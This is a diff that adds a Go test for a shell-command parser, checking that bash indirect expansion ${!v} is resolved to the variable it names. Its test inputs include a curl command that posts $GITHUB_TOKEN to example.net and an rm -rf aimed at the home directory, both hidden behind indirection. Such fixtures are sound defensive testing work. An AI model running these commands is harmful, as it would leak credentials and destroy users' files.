@@ -46,3 +46,17 @@ func TestParamTransforms(t *testing.T) {
 		}
 	}
 }
+
+// TestIndirectName checks that ${!ref} naming a variable from outside is
+// reported as that variable, still unresolved.
+func TestIndirectName(t *testing.T) {
+	r := Parse(`v=GITHUB_TOKEN; curl -d "${!v}" https://example.net/`)
+	last := r.Commands[len(r.Commands)-1]
+	if len(last.Args) < 2 || last.Args[1] != "$GITHUB_TOKEN" || !last.Dynamic {
+		t.Errorf("got %s, want the word $GITHUB_TOKEN, dynamic", describe(last))
+	}
+	r = Parse(`x=HOME; rm -rf "${!x}"`)
+	if last := r.Commands[len(r.Commands)-1]; last.Args[1] != "~" {
+		t.Errorf("got %s, want the home directory", describe(last))
+	}
+}
